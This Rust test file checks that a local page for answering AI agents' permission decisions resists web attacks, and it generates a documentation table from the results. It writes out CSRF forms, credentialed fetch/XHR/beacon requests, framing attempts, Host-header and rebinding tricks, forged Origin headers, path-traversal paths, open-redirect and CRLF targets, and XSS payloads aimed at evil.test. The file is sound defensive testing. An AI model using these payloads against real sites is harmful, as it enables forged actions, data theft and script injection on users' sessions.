//! Hostile pages and programs: each row is an attempt to answer a decision, to read the page, or to
//! run something in it. The page of the documentation, `docs/reference/page-attacks.md`, is made from
//! the rows; `ANYHOOK_UPDATE_ATTACKS=1` writes it.

use std::fmt::Write as _;
use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::path::Path;

use serde_json::{Value, json};

use crate::environment;
use crate::opened::{Opened, asks, dismissed, host, link, open_decisions, waits};

/// An attempt in a browser that may use the page: what is tried, and the page that tries it. `T` is
/// the page's address, `D` the path of the decision.
struct Attempt {
    what: &'static str,
    html: &'static str,
}

const fn attempt(what: &'static str, html: &'static str) -> Attempt {
    Attempt { what, html }
}

const FIELDS: &str = "<input name=choice value=allow><input name=digest value=DIGEST></form>\
     <script>document.forms[0].submit()</script>";

/// Pages of another site, and of another port of the same address.
const PAGES: [Attempt; 27] = [
    attempt("a form that answers", "<form method=post action=TD/answer>FIELDS"),
    attempt(
        "a form that answers, with a guessed word",
        "<form method=post action=TD/answer><input name=csrf value=00>FIELDS",
    ),
    attempt(
        "a form with parts",
        "<form method=post enctype=multipart/form-data action=TD/answer>FIELDS",
    ),
    attempt(
        "a form of plain text that is JSON",
        "<form method=post enctype=text/plain action=TAPI/answer><input name='{\"choice\":\"allow\",\"digest\":\"DIGEST\",\"x\":\"' value='\"}'></form><script>document.forms[0].submit()</script>",
    ),
    attempt(
        "a form in a frame",
        "<iframe name=f></iframe><form target=f method=post action=TD/answer>FIELDS",
    ),
    attempt("a form in a new window", "<form target=_blank method=post action=TD/answer>FIELDS"),
    attempt(
        "a form without an origin",
        "<iframe sandbox='allow-scripts allow-forms' srcdoc=\"<form method=post action=TD/answer>FIELDS\"></iframe>",
    ),
    attempt(
        "a form that asks for the answer's address",
        "<form method=get action=TD/answer>FIELDS",
    ),
    attempt(
        "a form that names another method",
        "<form method=post action='TD/answer?_method=PUT'><input name=_method value=PUT>FIELDS",
    ),
    attempt(
        "a form that ends the session",
        "<form method=post action=Tleave></form><script>document.forms[0].submit()</script>",
    ),
    attempt(
        "a form that claims the decision",
        "<form method=post action=TD/claim></form><script>document.forms[0].submit()</script>",
    ),
    attempt(
        "a form that types into an agent",
        "<form method=post action=Tagents/agent-hooks:s/input><input name=text value=y></form><script>document.forms[0].submit()</script>",
    ),
    attempt(
        "a request without reading the answer",
        "<script>fetch('TAPI/answer',{method:'POST',mode:'no-cors',credentials:'include',body:BODY})</script>",
    ),
    attempt(
        "a request with JSON",
        "<script>fetch('TAPI/answer',{method:'POST',credentials:'include',headers:{'content-type':'application/json'},body:BODY})</script>",
    ),
    attempt(
        "a request of the old kind",
        "<script>const x=new XMLHttpRequest();x.withCredentials=true;x.open('POST','TAPI/answer');x.send(BODY)</script>",
    ),
    attempt(
        "a beacon",
        "<script>navigator.sendBeacon('TD/answer',new URLSearchParams({choice:'allow',digest:'DIGEST'}))</script>",
    ),
    attempt("an image at the answer's address", "<img src='TD/answer?choice=allow&digest=DIGEST'>"),
    attempt(
        "a reload to the answer's address",
        "<meta http-equiv=refresh content='0;url=TD/answer?choice=allow'>",
    ),
    attempt(
        "reading the decisions",
        "<script>fetch('Tapi/v1/decisions',{credentials:'include'}).then(r=>r.text()).then(t=>got(t))</script>",
    ),
    attempt(
        "reading the page",
        "<script>fetch('Tdecisions',{credentials:'include'}).then(r=>r.text()).then(t=>got(t))</script>",
    ),
    attempt(
        "the decisions as a script",
        "<script>onerror=()=>{}</script><script src=Tapi/v1/decisions onload=\"got('loaded')\"></script>",
    ),
    attempt(
        "following what happens",
        "<script>const e=new EventSource('Tlive',{withCredentials:true});e.addEventListener('hello',m=>got(m.data))</script>",
    ),
    attempt("the page in a frame", "<iframe src=Tdecisions></iframe>"),
    attempt(
        "the page in a frame with a sandbox",
        "<iframe sandbox='allow-scripts allow-same-origin allow-forms' src=Tdecisions></iframe>",
    ),
    attempt("the page as an object", "<object data=Tdecisions type=text/html></object>"),
    attempt("the page embedded", "<embed src=Tdecisions type=text/html>"),
    attempt(
        "the page in a window that is read",
        "<script>const w=open('Tdecisions');setTimeout(()=>{try{got(w.document.body.innerText)}catch{}},400)</script>",
    ),
];

/// Opens a hostile page in the browser that may use ours, and returns what it got.
const VISIT: &str = "
    const { createServer } = tools.require('node:http');
    let told = [];
    const server = createServer((request, response) => {
      if (request.url.startsWith('/got')) told.push(decodeURIComponent(request.url));
      // Browsers send cookies of an address to each of its ports; nobody else is at this address.
      const isElsewhere = args.host === '127.0.0.1';
      if (isElsewhere && request.headers.cookie?.includes('anyhook')) told.push(request.headers.cookie);
      response.setHeader('content-type', 'text/html');
      response.end(request.url === '/' ? args.html : '');
    });
    await new Promise((done) => server.listen(0, args.host, done));
    const name = args.host === '127.0.0.1' ? 'evil.test' : args.host;
    const victim = await page.context().newPage();
    const framed = [];
    victim.on('framenavigated', (frame) => {
      if (frame.parentFrame() && frame.url().startsWith(args.address)) framed.push(frame);
    });
    await victim.goto(`http://${name}:${server.address().port}/`, { waitUntil: 'load' });
    await victim.waitForLoadState('networkidle').catch(() => {});
    for (const frame of framed) {
      const shown = await frame.$('#main').catch(() => null);
      if (shown) told.push('framed');
    }
    for (const other of page.context().pages()) if (other !== page) await other.close();
    server.closeAllConnections();
    await new Promise((done) => server.close(done));
    return told;";

fn try_pages(page: &mut Opened, decision: &Value) -> Vec<(String, &'static str)> {
    let id = decision["inquiry"]["id"].as_str().unwrap();
    let digest = decision["inquiry"]["digest"].as_str().unwrap();
    let own = host(&page.address).to_owned();
    let body = json!({"choice": "allow", "digest": digest}).to_string();
    let mut held = Vec::new();
    for (origin, from) in
        [("127.0.0.1", "another site"), (own.as_str(), "another port of the same address")]
    {
        for Attempt { what, html } in PAGES {
            let html = html
                .replace("FIELDS", FIELDS)
                .replace("DIGEST", digest)
                .replace("BODY", &format!("'{body}'"))
                .replace("TD/", &format!("{}decisions/{id}/", page.address))
                .replace("TAPI/", &format!("{}api/v1/decisions/{id}/", page.address));
            let html = ["action=T", "src=T", "data=T", "open('T", "fetch('T", "Source('T", "'T"]
                .iter()
                .fold(html, |html, mark| {
                    let start = mark.trim_end_matches('T');
                    html.replace(mark, &format!("{start}{}", page.address))
                });
            let html = format!(
                "<!DOCTYPE html><script>globalThis.got=(text)=>navigator.sendBeacon('/got?'+encodeURIComponent(text))</script>{html}"
            );
            let told = page.run(VISIT, json!({"html": html, "host": origin}));
            assert_eq!(told, json!([]), "{what} from {from}");
            held.push((
                format!("{what}, from {from}"),
                "the browser's own rules, `Origin` and the word of the form",
            ));
        }
    }
    held
}

/// Sends bytes to the page; returns the answer.
fn send(address: &str, request: &str) -> String {
    let authority = address.trim_start_matches("http://").trim_end_matches('/');
    let mut stream = TcpStream::connect(authority).unwrap();
    stream.write_all(request.as_bytes()).unwrap();
    let mut answer = String::new();
    let _ = stream.read_to_string(&mut answer);
    answer
}

/// A request with headers, that ends the connection.
fn request(line: &str, headers: &[(&str, &str)], body: &str) -> String {
    let mut text = format!("{line} HTTP/1.1\r\nConnection: close\r\n");
    for (name, value) in headers {
        write!(text, "{name}: {value}\r\n").unwrap();
    }
    write!(text, "Content-Length: {}\r\n\r\n{body}", body.len()).unwrap();
    text
}

/// What someone sends who knows the address, and even the cookie of a browser.
struct Requests {
    address: String,
    /// The host and port.
    ours: String,
    origin: String,
    cookie: String,
    csrf: String,
    held: Vec<(String, &'static str)>,
}

impl Requests {
    /// Takes the secrets of a browser, as a program of the same user could.
    fn with_secrets_of(page: &mut Opened) -> Self {
        let secrets = page.run(
            "const [cookie] = await page.context().cookies(args.address);
             return { cookie: `${cookie.name}=${cookie.value}`,
                      hidden: cookie.httpOnly && cookie.sameSite === 'Strict',
                      read: await page.evaluate(() => document.cookie),
                      csrf: await page.getAttribute('meta[name=csrf]', 'content') };",
            json!({}),
        );
        assert_eq!((&secrets["hidden"], &secrets["read"]), (&json!(true), &json!("")));
        let address = page.address.clone();
        let ours = address.trim_start_matches("http://").trim_end_matches('/').to_owned();
        let text = |name: &str| secrets[name].as_str().unwrap().to_owned();
        Self {
            address,
            origin: format!("http://{ours}"),
            ours,
            cookie: text("cookie"),
            csrf: text("csrf"),
            held: vec![("the cookie, read by a script".to_owned(), "`HttpOnly`")],
        }
    }

    /// Sends a request that must end with one of these statuses.
    fn refused(&mut self, what: &str, why: &'static str, statuses: &[&str], request: &str) {
        let answer = send(&self.address, request);
        let status = answer.split(' ').nth(1).unwrap_or("none").to_owned();
        assert!(statuses.contains(&status.as_str()), "{what}: {answer}");
        self.held.push((what.to_owned(), why));
    }

    /// Names other hosts, as a browser does for a name that points here.
    fn try_hosts(&mut self) {
        const WHY: &str = "`Host` must be ours";
        const WRONG: &[&str] = &["421", "400"];
        let (ours, cookie) = (self.ours.clone(), self.cookie.clone());
        let (ip, port) = ours.rsplit_once(':').unwrap();
        for (what, name) in [
            ("the name of another site that points here", "evil.test".to_owned()),
            ("another site's name with our port", format!("evil.test:{port}")),
            ("`localhost`", format!("localhost:{port}")),
            ("`127.0.0.1`", format!("127.0.0.1:{port}")),
            ("our address without its port", ip.to_owned()),
            ("our address with another port", format!("{ip}:1")),
            ("our address and a dot", format!("{ip}.:{port}")),
            ("an empty host", String::new()),
        ] {
            let text = request("GET /decisions", &[("Host", &name), ("Cookie", &cookie)], "");
            self.refused(&format!("`Host` is {what}"), WHY, WRONG, &text);
        }
        let session = ("Cookie", cookie.as_str());
        let (evil, own) = (("Host", "evil.test"), ("Host", ours.as_str()));
        let forwarded = ("X-Forwarded-Host", ours.as_str());
        for (what, line, headers) in [
            ("no `Host`", "GET /decisions", vec![session]),
            ("two hosts", "GET /decisions", vec![evil, own, session]),
            (
                "another host in the request line",
                "GET http://evil.test/decisions",
                vec![own, session],
            ),
            ("a forwarded host", "GET /decisions", vec![evil, forwarded, session]),
        ] {
            self.refused(what, WHY, WRONG, &request(line, &headers, ""));
        }
    }

    /// Answers with the cookie, but not from the page.
    fn try_answers(&mut self, decision: &Value) {
        let id = decision["inquiry"]["id"].as_str().unwrap();
        let digest = decision["inquiry"]["digest"].as_str().unwrap();
        let line = format!("POST /decisions/{id}/answer");
        let (ours, cookie, origin) = (self.ours.clone(), self.cookie.clone(), self.origin.clone());
        let usual = vec![
            ("Host", ours.as_str()),
            ("Cookie", cookie.as_str()),
            ("Content-Type", "application/x-www-form-urlencoded"),
        ];
        let form = format!("choice=allow&digest={digest}&csrf=");
        let right = format!("{form}{}", self.csrf);
        let (wrong, other) = (format!("{form}00"), format!("{form}{}", "ab".repeat(32)));
        let longer = format!("{origin}.evil.test");
        let own = ("Origin", origin.as_str());
        for (what, more, body) in [
            ("an answer with the cookie, without the word", vec![own], &form),
            ("an answer with the cookie and a wrong word", vec![own], &wrong),
            ("an answer with the word of another session", vec![own], &other),
            ("an answer without an origin", vec![], &right),
            ("an answer with another origin", vec![("Origin", "http://evil.test")], &right),
            ("an answer with the origin `null`", vec![("Origin", "null")], &right),
            ("an answer with an origin that begins like ours", vec![("Origin", &longer)], &right),
            (
                "an answer that another site makes the browser send",
                vec![own, ("Sec-Fetch-Site", "cross-site")],
                &right,
            ),
            (
                "an answer that another port makes the browser send",
                vec![own, ("Sec-Fetch-Site", "same-site")],
                &right,
            ),
        ] {
            let headers = [usual.clone(), more].concat();
            let why = "`Origin`, `Sec-Fetch-Site` and the word of the form";
            self.refused(what, why, &["403"], &request(&line, &headers, body));
        }
    }

    /// Reads without a secret, or with a wrong one.
    fn try_secrets(&mut self) {
        let (ours, cookie, csrf) = (self.ours.clone(), self.cookie.clone(), self.csrf.clone());
        let host = ("Host", ours.as_str());
        let word = format!("anyhook_page={csrf}");
        let bearer = format!("Bearer {}", cookie.split_once('=').unwrap().1);
        for (what, more) in [
            ("no cookie", vec![]),
            ("a guessed cookie", vec![("Cookie", "anyhook_page=00")]),
            ("the word of a form as the cookie", vec![("Cookie", word.as_str())]),
            ("a guessed token", vec![("Authorization", "Bearer anyhook_00")]),
            (
                "a wrong token beside the right cookie",
                vec![("Cookie", cookie.as_str()), ("Authorization", "Bearer x")],
            ),
            ("the cookie's value as a token", vec![("Authorization", bearer.as_str())]),
        ] {
            let text = request("GET /api/v1/decisions", &[vec![host], more].concat(), "");
            let why = "secrets of 256 bits, of which only digests are kept";
            self.refused(what, why, &["401"], &text);
        }
        let line = format!("GET /api/v1/decisions?token={csrf}");
        let text = request(&line, &[host], "");
        self.refused("a secret in the address", "it is not looked at", &["401"], &text);
        for path in [
            "/assets/../decisions",
            "/assets/%2e%2e/decisions",
            "//decisions",
            "/enter/../decisions",
            "/assets/..%2fdecisions",
        ] {
            let text = request(&format!("GET {path}"), &[host], "");
            let why = "paths are not normalised";
            self.refused(&format!("the path `{path}`"), why, &["401", "404", "400"], &text);
        }
    }

    /// Follows links that lead elsewhere, and one that was used.
    fn try_links(&mut self, link: &Value) {
        let code = link["link"].as_str().unwrap().split("code=").nth(1).unwrap();
        let ours = self.ours.clone();
        let host = ("Host", ours.as_str());
        for to in [
            "//evil.test/",
            "http://evil.test/",
            "javascript:alert(1)",
            "/%0d%0aSet-Cookie:x=y",
            "/\\evil.test",
        ] {
            // The first of them uses the link.
            let text = request(&format!("GET /enter?code={code}&to={to}"), &[host], "");
            let answer = send(&self.address, &text);
            let top = answer.split("\r\n\r\n").next().unwrap().to_lowercase();
            let is_led = ["evil.test", "javascript", "x=y"].iter().any(|word| top.contains(word));
            assert!(!is_led, "{answer}");
            let why = "only paths of ours are followed";
            self.held.push((format!("a link that leads to `{to}`"), why));
        }
        let text = request(&format!("GET /enter?code={code}"), &[host], "");
        let why = "it works once; then both sessions end";
        self.refused("a link that was used before", why, &["401"], &text);
    }
}

/// Texts that would be markup, or end an attribute or a script.
const PAYLOADS: [&str; 6] = [
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "\" autofocus onfocus=pwned() x=\"",
    "'><svg/onload=pwned()>",
    "</pre></main><form action=//evil.test><button autofocus>ok</button>",
    "javascript:pwned()",
];

/// Encodes every byte for an address.
fn encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |mut all, byte| {
        write!(all, "%{byte:02X}").unwrap();
        all
    })
}

/// Puts a text everywhere an agent or a hook can put one, and looks at every view.
#[test]
fn text_from_elsewhere_runs_nothing() {
    let environment = environment();
    asks(&environment);
    let mut waiting = Vec::new();
    for (number, payload) in PAYLOADS.into_iter().enumerate() {
        let session = format!("s{number}{payload}");
        let asked = |text: &str| format!("{payload} please-ask {text}");
        for (tool, input) in [
            ("Shell", json!({"command": asked("command"), payload: payload})),
            ("WriteFile", json!({"path": asked("path"), "content": payload})),
            ("EditFile", json!({"path": payload, "old": payload, "new": asked("new")})),
            ("Mcp", json!({"server": payload, "tool": asked("tool"), "list": [payload]})),
            (payload, json!({"x": asked("tool's name")})),
        ] {
            waiting.push(waits(&environment, &session, tool, &input));
        }
    }
    let Some(mut page) = Opened::new("markup", &environment) else { return };
    let agents = environment.run(&["agent", "list", "--json"]).json();
    let mut paths: Vec<String> =
        ["agents", "decisions", "journal", "hooks", "pipelines", "workflows", "stats", "devices"]
            .map(str::to_owned)
            .into();
    for agent in agents.as_array().unwrap() {
        paths.push(format!("agents/{}", encoded(agent["id"].as_str().unwrap())));
    }
    for (_, decision) in &waiting {
        paths.push(format!("decisions/{}", decision["inquiry"]["id"].as_str().unwrap()));
    }
    for payload in PAYLOADS {
        for path in
            ["agents/", "decisions/", "journal?text=", "hooks?project=", "stats?since=", "nothing/"]
        {
            paths.push(format!("{path}{}", encoded(payload)));
        }
    }
    let script = "
        const found = [];
        await page.addInitScript(() => { globalThis.pwned = () => { globalThis.hit = true; }; });
        page.on('dialog', (dialog) => { found.push('dialog'); dialog.dismiss(); });
        for (const path of args.paths) {
          page.problems.length = 0;
          await page.goto(args.address + path);
          const seen = await page.evaluate(() => ({
            hit: globalThis.hit ?? false,
            foreign: [...document.querySelectorAll('script:not([src^=\"/assets/\"]), iframe, object, embed')].length,
            handlers: [...document.querySelectorAll('*')].filter((node) =>
              [...node.attributes].some(({ name, value }) =>
                name.startsWith('on') || /^\\s*javascript:/i.test(value) && name !== 'value' && name !== 'title')).length,
            forms: [...document.forms].filter((form) => new URL(form.action).origin !== location.origin).length,
          }));
          const refused = page.problems.filter((problem) => /Content Security|Trusted/.test(problem));
          if (seen.hit || seen.foreign || seen.handlers || seen.forms || refused.length) {
            found.push({ path, ...seen, refused });
          }
        }
        return found;";
    let found = page.run(script, json!({"paths": paths}));
    assert_eq!(found, json!([]), "{found:#}");
    for (process, decision) in waiting {
        dismissed(process, &environment, &decision);
    }
}

#[test]
fn hostile_pages_and_programs_are_refused() {
    let environment = environment();
    asks(&environment);
    let input = json!({"command": "touch please-ask"});
    let (process, decision) = waits(&environment, "s", "Shell", &input);
    let Some(mut page) = Opened::new("hostile pages", &environment) else { return };
    let mut held = try_pages(&mut page, &decision);
    // A name that now points here: the browser believes that it is the site's own server.
    let answer = page.run(
        "const other = await page.context().newPage();
         const answer = await other.goto(args.address.replace(/\\/\\/[^:/]+/, '//rebound.test') + 'decisions');
         const status = answer.status();
         await other.close();
         return status;",
        json!({}),
    );
    assert_eq!(answer, 421);
    held.push(("a name in the browser that now points here".to_owned(), "`Host` must be ours"));
    let second = link(&environment);
    let mut requests = Requests::with_secrets_of(&mut page);
    requests.try_hosts();
    requests.try_answers(&decision);
    requests.try_secrets();
    requests.try_links(&second);
    held.extend(requests.held);
    // After all that, the decision is open, unclaimed, and the browser may still use the page.
    let open = open_decisions(&environment);
    assert_eq!(open.len(), 1);
    assert_eq!(open[0]["claimed"], Value::Null, "{open:#?}");
    let status =
        page.run("return (await page.goto(`${args.address}decisions`)).status();", json!({}));
    assert_eq!(status, 200);
    // The log of the daemon has no secret.
    let log = environment.run(&["daemon", "logs", "-n", "1000"]);
    let code = second["link"].as_str().unwrap().split("code=").nth(1).unwrap();
    assert!(!log.stdout.contains(code), "{log:?}");
    assert!(held.len() >= 40, "{}", held.len());
    dismissed(process, &environment, &decision);
    compare(&held);
}

/// Compares the rows with the page of the documentation, or writes it.
fn compare(held: &[(String, &'static str)]) {
    let mut text = String::from(
        "<!-- Made by the tests: ANYHOOK_UPDATE_ATTACKS=1 cargo test -p anyhook --test page hostile; changes here are lost. -->\n\n\
         # Attacks on the page\n\n\
         Each row was tried by a test, in real Chromium with a session that may use the page, or by a program that knows its address. None answered a decision, read anything or ran anything.\n\n\
         Text of agents is tried, too: markup in commands, paths, contents, names of tools, sessions and addresses (`text_from_elsewhere_runs_nothing`).\n\n\
         | attempt | what stops it |\n|---|---|\n",
    );
    for (what, why) in held {
        writeln!(text, "| {what} | {why} |").unwrap();
    }
    let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/reference/page-attacks.md");
    if std::env::var_os("ANYHOOK_UPDATE_ATTACKS").is_some() {
        return std::fs::write(&file, text).unwrap();
    }
    assert_eq!(std::fs::read_to_string(&file).unwrap_or_default(), text, "{}", file.display());
}
